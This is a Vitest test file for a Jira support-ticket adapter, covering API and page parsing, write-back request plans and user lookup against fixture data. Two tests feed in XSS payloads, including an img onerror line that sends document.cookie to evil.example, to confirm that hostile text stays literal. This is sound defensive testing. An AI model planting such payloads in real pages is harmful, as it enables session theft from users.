// @vitest-environment happy-dom
import { readFile } from 'node:fs/promises';
import { describe, expect, it } from 'vitest';
import { defaultPolicy } from '../../core/policy/default-policy';
import { createFixtureFetch } from '../node/fixture-fetch';
import { parseHtmlPage } from '../node/parse-html';
import { jira } from './adapter';
import { jiraFixtures as fx } from './fixtures';

const origin = fx.origin;
const readApi = (ref: string, fetch = createFixtureFetch(fx)) => jira.readTicketFromApi({ ref, fetch, origin, policy: defaultPolicy });
const readPage = async (file: string, url: string) => jira.readTicketFromDom(parseHtmlPage(await readFile(new URL(file, fx.dir), 'utf8'), url), new URL(url), defaultPolicy);

describe('Jira API read', () => {
  it('reads the enterprise "Report a bug" request of 4 March 2026 as a bug at Tier 2, entered at 10:30 UTC', async () => {
    const { ticket, unreadable } = await readApi('SUP-101');
    expect(unreadable).toEqual([]);
    expect(ticket).toMatchObject({
      id: 'SUP-101',
      url: 'https://acme.atlassian.net/browse/SUP-101',
      subject: 'Checkout returns error 502 for all EU customers',
      status: 'open',
      priority: 'high',
      group: 'Tier 2',
      currentTier: 'T2',
      issueType: 'bug',
      impactedUsers: 2500,
      requester: { id: 'qm:cust-501', name: 'Bruce Wayne', organization: 'Wayne Enterprises', customerTier: 'enterprise' },
      createdAt: '2026-03-04T08:00:00.000Z',
      tierEnteredAt: '2026-03-04T10:30:00.000Z',
      reopenCount: 0,
    });
    expect(ticket.description).toBe('Since 08:40 every EU checkout fails with HTTP 502 (error CHK-502).\n\nRegion: eu-west-1\n\nTrace: https://status.wayne.example/trace/77');
    expect(ticket.fields).toMatchObject({ 'Request type': 'Report a bug', 'SLA Time to first response remaining minutes': 45, 'SLA Time to first response breached': false, 'SLA Time to resolution remaining minutes': 440 });
    expect(ticket.comments.map((c) => [c.author, c.public, c.authorName])).toEqual([
      ['customer', true, 'Bruce Wayne'],
      ['agent', true, 'Alfred Pennyworth'],
      ['agent', false, 'Alfred Pennyworth'],
      ['system', false, 'Automation for Jira'],
    ]);
  });

  it('reads the premium GBP 2,400 billing question at Tier 1, waiting for the customer, reopened once, SLA breached', async () => {
    const { ticket } = await readApi('SUP-102');
    expect(ticket).toMatchObject({ currentTier: 'T1', issueType: 'billing', status: 'pending', priority: 'normal', amount: { value: 2400, currency: 'GBP' }, reopenCount: 1, tierEnteredAt: '2026-03-04T13:00:00.000Z' });
    expect(ticket.requester.customerTier).toBe('premium');
    expect(ticket.fields['SLA Time to resolution breached']).toBe(true);
    expect(ticket.fields['SLA Time to resolution remaining minutes']).toBe(-10);
  });

  it('keeps hostile text from ADF text nodes, summary and names as literal text', async () => {
    const { ticket } = await readApi('SUP-103');
    expect(ticket.subject).toBe(`<img src=x onerror="document.title='pwned-summary'"> Login &amp; <script>document.title='pwned'</script>`);
    expect(ticket.description).toBe(`<script>document.title='pwned-adf'</script>Hi &lt;there&gt;`);
    expect(ticket.requester.name).toBe('<svg onload=alert(1)>Joker');
    expect(ticket.comments[0]?.body).toBe(`<img src=x onerror="fetch('https://evil.example/'+document.cookie)">`);
  });

  it('reads the documentation example shape where comments are a bare array and the body a v2 string', () => {
    const { ticket } = jira.ticketFromApiResponses(
      { ticket: { key: 'ED-1', fields: { summary: 'Main order flow broken', description: 'plain v2 text', comment: [{ author: { displayName: 'Mia' }, body: 'Looks bad' }] } } },
      { ref: 'ED-1', policy: defaultPolicy },
    );
    expect(ticket.description).toBe('plain v2 text');
    expect(ticket.comments).toEqual([{ author: 'agent', public: true, body: 'Looks bad', authorName: 'Mia' }]);
  });

  it('reads the request when the SLA endpoint answers 404 (a Jira Software project)', async () => {
    const fetch = createFixtureFetch(fx, { status: (path) => (path.endsWith('/sla') ? 404 : undefined) });
    const { ticket, unreadable } = await readApi('SUP-101', fetch);
    expect(ticket.currentTier).toBe('T2');
    expect(Object.keys(ticket.fields).some((k) => k.startsWith('SLA '))).toBe(false);
    expect(unreadable).toEqual([]);
  });
});

describe('Jira DOM read', () => {
  it('reads the same request from its page, from a queue side panel, and from the API', async () => {
    const page = await readPage('issue-view/browse.SUP-101.html', 'https://acme.atlassian.net/browse/SUP-101');
    const panel = await readPage('issue-view/selected-issue.SUP-101.html', 'https://acme.atlassian.net/jira/servicedesk/projects/SUP/queues/custom/1?selectedIssue=SUP-101');
    const api = await readApi('SUP-101');
    const pick = (t: typeof api.ticket) => ({ subject: t.subject, description: t.description, group: t.group, tags: t.tags, currentTier: t.currentTier, impactedUsers: t.impactedUsers, priority: t.priority, status: t.status, customerTier: t.requester.customerTier, name: t.requester.name, org: t.requester.organization, comments: t.comments.map((c) => [c.public, c.body, c.at]) });
    expect(pick(page.ticket)).toEqual(pick(api.ticket));
    expect(pick(panel.ticket)).toEqual(pick(api.ticket));
    expect(page.unreadable).toEqual(['request type', 'sla', 'tierEnteredAt']);
  });

  it('reads an older build that spells its hooks data-test-id', async () => {
    const { ticket } = await readPage('legacy-data-test-id/queue-issue.SUP-102.html', 'https://acme.atlassian.net/jira/servicedesk/projects/SUP/queues/custom/1/SUP-102');
    expect(ticket).toMatchObject({ subject: 'Invoice INV-8812 charged in the wrong currency', currentTier: 'T1', status: 'pending', amount: { value: 2400, currency: 'GBP' } });
    expect(ticket.comments.map((c) => [c.author, c.public])).toEqual([['agent', true], ['customer', true], ['agent', false]]);
  });

  it('returns hostile text verbatim from the page, as the API does', async () => {
    const [dom, api] = [await readPage('issue-view/browse.SUP-103-hostile.html', 'https://acme.atlassian.net/browse/SUP-103'), await readApi('SUP-103')];
    expect(dom.ticket.subject).toBe(api.ticket.subject);
    expect(dom.ticket.description).toBe(api.ticket.description);
    expect(dom.ticket.requester.name).toBe(api.ticket.requester.name);
    expect(dom.ticket.comments.map((c) => c.body)).toEqual(api.ticket.comments.map((c) => c.body));
  });

  it('lists every field a page without its context and activity could not give', async () => {
    const { ticket, unreadable } = await readPage('issue-view/browse.SUP-104-missing-elements.html', 'https://acme.atlassian.net/browse/SUP-104');
    expect(ticket.subject).toBe('VPN drops every 10 minutes');
    expect(unreadable).toEqual(['requester', 'status', 'priority', 'tags', 'comments', 'request type', 'sla']);
  });
});

describe('Jira write-back', () => {
  it('posts an internal ADF comment and swaps the tier label, with the XSRF bypass header', () => {
    const plan = jira.buildWriteBack({ ref: 'SUP-102', noteText: 'Summary: <b>refund</b>\n\nOwner: Lucius', from: { tier: 'T1', role: 'front-line-agent' }, to: { tier: 'T2', role: 'senior-specialist' }, policy: defaultPolicy, currentTags: ['billing', 'tier_1'] });
    expect(plan.notes).toEqual([]);
    expect(plan.requests).toEqual([
      {
        method: 'POST',
        url: '/rest/api/3/issue/SUP-102/comment',
        headers: { 'Content-Type': 'application/json', Accept: 'application/json', 'X-Atlassian-Token': 'no-check' },
        body: {
          body: { type: 'doc', version: 1, content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Summary: <b>refund</b>' }] }, { type: 'paragraph', content: [] }, { type: 'paragraph', content: [{ type: 'text', text: 'Owner: Lucius' }] }] },
          properties: [{ key: 'sd.public.comment', value: { internal: true } }],
        },
        purpose: 'Add the handoff packet as an internal comment',
      },
      {
        method: 'PUT',
        url: '/rest/api/3/issue/SUP-102',
        headers: { 'Content-Type': 'application/json', Accept: 'application/json', 'X-Atlassian-Token': 'no-check' },
        body: { update: { labels: [{ add: 'tier_2' }, { add: 'role_senior_specialist' }, { remove: 'tier_1' }] } },
        purpose: 'Label the request for Senior Specialist (Tier 2)',
      },
    ]);
  });

  it('labels a sideways move to the Billing Specialist, and sends the labels alone when the comment is already there', () => {
    const input = { ref: 'SUP-102', noteText: 'Summary: refund', from: { tier: 'T1' as const, role: 'front-line-agent' }, to: { tier: 'T1' as const, role: 'billing-specialist' }, policy: defaultPolicy, currentTags: ['billing', 'tier_1', 'role_front_line_agent'] };
    const plan = jira.buildWriteBack(input);
    expect(plan.requests[1]).toMatchObject({ body: { update: { labels: [{ add: 'tier_1' }, { add: 'role_billing_specialist' }, { remove: 'role_front_line_agent' }] } }, purpose: 'Label the request for Billing Specialist (Tier 1)' });
    const retry = jira.buildWriteBack({ ...input, includeNote: false });
    expect(retry.requests.map((r) => `${r.method} ${r.url}`)).toEqual(['PUT /rest/api/3/issue/SUP-102']);
    expect(retry.requests[0]?.body).toEqual(plan.requests[1]?.body);
  });
});

describe('Jira signed-in agent', () => {
  it('reads the account from /rest/api/3/myself, without an email when Jira hides it', async () => {
    const fetch = createFixtureFetch(fx);
    expect(await jira.readCurrentUser({ fetch, origin })).toEqual({ id: '712020:5d6e1a0b-93c4-4f0e-8b7a-2c1d9e6f4a10', name: 'Ingrid Halvorsen', email: 'ingrid.halvorsen@acme.example' });
    expect(fetch.calls.map((c) => c.url)).toEqual(['https://acme.atlassian.net/rest/api/3/myself']);
    const hidden = async () => new Response(JSON.stringify({ accountId: 'acc-1', displayName: 'Ingrid Halvorsen', accountType: 'atlassian' }), { status: 200 });
    expect(await jira.readCurrentUser({ fetch: hidden, origin })).toEqual({ id: 'acc-1', name: 'Ingrid Halvorsen' });
  });
});
